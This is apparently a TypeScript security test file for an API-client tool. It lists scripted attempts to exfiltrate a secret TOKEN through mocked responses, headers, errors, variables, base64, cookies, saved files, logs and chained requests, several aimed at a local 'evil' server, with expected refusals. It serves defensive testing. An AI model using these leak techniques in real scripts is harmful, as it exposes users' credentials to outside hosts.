import { readFile } from 'node:fs/promises';
import { join } from 'node:path';

import type { Lab, Outcome } from './lab.js';
import type { Attack } from './more.js';

const hostRefusal = /^SECRET_HOST_REFUSED$/;
const getEvilUrl = (lab: Lab, path = ''): string => `http://localhost:${lab.evil}${path}`;

/** Executes a request whose script mocks the response. Nothing is sent, and no guard is evaluated. */
const sendMocked = (lab: Lab, answer: string, more: object = {}, url = `http://127.0.0.1:${lab.home}/`) =>
  lab.execute({
    url,
    script: `export function onRequest(req) { const token = req.env.getSecret('TOKEN'); ${answer} }`,
    ...more,
  });

const tokenMockScript =
  "return new ServiceResponse(JSON.stringify({ token }), { status: 200, headers: { 'content-type': 'application/json', 'x-token': token } });";

/** Stores content of a mocked response in the variable `MOCKED`, sends the variable to the other server, and returns the outcome. */
const sendStoredAnswer = async (lab: Lab, onResponse: string): Promise<Outcome> => {
  await lab.execute({
    url: `http://127.0.0.1:${lab.home}/`,
    script: `export function onRequest(req) { const token = req.env.getSecret('TOKEN'); ${tokenMockScript} }
export function onResponse(req, res) { ${onResponse} }`,
  });
  return lab.send({ url: getEvilUrl(lab, '/{{MOCKED}}') });
};

/** Attacks with mocked responses. Nothing is sent for them, and they contain what the script could read. */
export const mockAttacks: readonly Attack[] = [
  [
    'mocked answers',
    'its body and its headers',
    /^200$/,
    async (lab) => lab.outcomeOf(await sendMocked(lab, tokenMockScript)),
  ],
  [
    'mocked answers',
    'its status text',
    /^200$/,
    async (lab) =>
      lab.outcomeOf(
        await sendMocked(lab, "return new ServiceResponse('', { status: 200, statusText: token });"),
      ),
  ],
  [
    'mocked answers',
    'the name of a header',
    /^200$/,
    async (lab) =>
      lab.outcomeOf(
        await sendMocked(lab, "return new ServiceResponse('', { status: 200, headers: { [token]: 'x' } });"),
      ),
  ],
  [
    'mocked answers',
    'an error',
    /^SCRIPT_ERROR$/,
    async (lab) => lab.outcomeOf(await sendMocked(lab, 'throw new Error(token);')),
  ],
  [
    'mocked answers',
    'an error whose name and stack hold it',
    /^SCRIPT_ERROR$/,
    async (lab) =>
      lab.outcomeOf(
        await sendMocked(lab, "const e = new Error('x'); e.name = token; e.stack = token; throw e;"),
      ),
  ],
  [
    'mocked answers',
    'a copy of its body in a variable',
    hostRefusal,
    (lab) => sendStoredAnswer(lab, "res.env.setVariable('MOCKED', res.json().token);"),
  ],
  [
    'mocked answers',
    'a copy of its header in a secret without hosts',
    hostRefusal,
    (lab) => sendStoredAnswer(lab, "res.env.setSecret('MOCKED', res.headers.get('x-token'));"),
  ],
  [
    'mocked answers',
    'a copy in base64',
    hostRefusal,
    (lab) => sendStoredAnswer(lab, "res.env.setVariable('MOCKED', btoa(res.json().token));"),
  ],
  [
    'mocked answers',
    'a cookie of another server',
    // A mocked response sets no cookies.
    /^401$/,
    async (lab) => {
      await sendMocked(
        lab,
        "return new ServiceResponse('', { status: 200, headers: { 'set-cookie': 'sid=' + token + '; Path=/' } });",
        {},
        getEvilUrl(lab),
      );
      const outcome = await lab.send({ url: getEvilUrl(lab) });
      await lab.call('cookies_clear', {});
      return outcome;
    },
  ],
  [
    'mocked answers',
    'a file that another request sends',
    /^401$/,
    async (lab) => {
      const file = `files/mock-${Math.random()}.json`;
      const { id } = await lab.call('rest_create', {
        name: `M${Math.random()}`,
        url: `http://127.0.0.1:${lab.home}/`,
        script: `export function onRequest(req) { const token = req.env.getSecret('TOKEN'); ${tokenMockScript} }`,
      });
      await lab.call('rest_execute', { id, saveTo: file });
      const saved = await readFile(join(lab.folder, file), 'utf8').catch(String);
      if (saved.includes('Zk3q-7vX')) return saved;
      return lab.send({ method: 'POST', url: getEvilUrl(lab), body: { type: 'binary', file } });
    },
  ],
  [
    'mocked answers',
    'its stored execution, a comparison and a selection',
    /^done$/,
    async (lab) => {
      const one = (await sendMocked(lab, tokenMockScript)) as { executionId: string };
      const other = (await sendMocked(lab, tokenMockScript.replace('{ token }', '{ token: token + 1 }'))) as {
        executionId: string;
      };
      await lab.call('executions_get', { id: one.executionId });
      await lab.call('executions_get', { id: one.executionId, select: '$.token' });
      await lab.call('executions_compare', { a: one.executionId, b: other.executionId });
      await lab.call('executions_list', { search: 'token' });
      return 'done';
    },
  ],
  [
    'mocked answers',
    'names and messages of tests, and logs',
    /^200$/,
    async (lab) =>
      lab.outcomeOf(
        await lab.execute({
          url: `http://127.0.0.1:${lab.home}/`,
          script: `export function onRequest(req) { const token = req.env.getSecret('TOKEN'); console.log(token, { [token]: [token] }); ${tokenMockScript} }
export function onTest(req, res) { const { token } = res.json(); test(token, () => { throw new Error(token); }); test('x', () => expect(token).toBe('y')); }`,
        }),
      ),
  ],
  [
    'mocked answers',
    'a run and its report',
    /^done$/,
    async (lab) => {
      const { id } = await lab.call('rest_create', {
        name: `Run ${Math.random()}`,
        url: `http://127.0.0.1:${lab.home}/`,
        script: `export function onRequest(req) { const token = req.env.getSecret('TOKEN'); ${tokenMockScript} }
export function onTest(req, res) { test(res.json().token, () => { throw new Error(res.json().token); }); }`,
      });
      await lab.call('runs_execute', { ids: [id], report: 'full' });
      await lab.call('runs_list', {});
      return 'done';
    },
  ],
  [
    'mocked answers',
    'a request that needs it',
    hostRefusal,
    async (lab) => {
      const { id } = await lab.call('rest_create', {
        name: `Need ${Math.random()}`,
        url: `http://127.0.0.1:${lab.home}/`,
        script: `export function onRequest(req) { const token = req.env.getSecret('TOKEN'); ${tokenMockScript} }
export function onResponse(req, res) { res.env.setVariable('NEEDED', res.json().token); }`,
      });
      const got = await lab.call('rest_create', {
        name: `Needing ${Math.random()}`,
        url: getEvilUrl(lab, '/{{NEEDED}}'),
        needs: [id],
      });
      return lab.outcomeOf(await lab.call('rest_execute', { id: got.id }));
    },
  ],
  [
    'mocked answers',
    'another request that a script executes',
    hostRefusal,
    async (lab) => {
      const name = `Answer ${Math.random()}`;
      await lab.call('rest_create', {
        name,
        url: `http://127.0.0.1:${lab.home}/`,
        script: `export function onRequest(req) { const token = req.env.getSecret('TOKEN'); ${tokenMockScript} }`,
      });
      return lab.outcomeOf(
        await lab.execute({
          url: getEvilUrl(lab),
          script: `export async function onRequest(req) { const { token } = (await execute('${name}')).json(); req.headers.set('x', token); }`,
        }),
      );
    },
  ],
  [
    'mocked answers',
    'GraphQL errors',
    /^200$/,
    async (lab) => {
      const { id } = await lab.call('graphql_create', {
        name: `G${Math.random()}`,
        url: getEvilUrl(lab),
        query: '{ a }',
        script: `export function onRequest(req) { const token = req.env.getSecret('TOKEN'); return new ServiceResponse(JSON.stringify({ data: null, errors: [{ message: token, path: [token] }] }), { headers: { 'content-type': 'application/json' } }); }`,
      });
      return lab.outcomeOf(await lab.call('graphql_execute', { id }));
    },
  ],
];
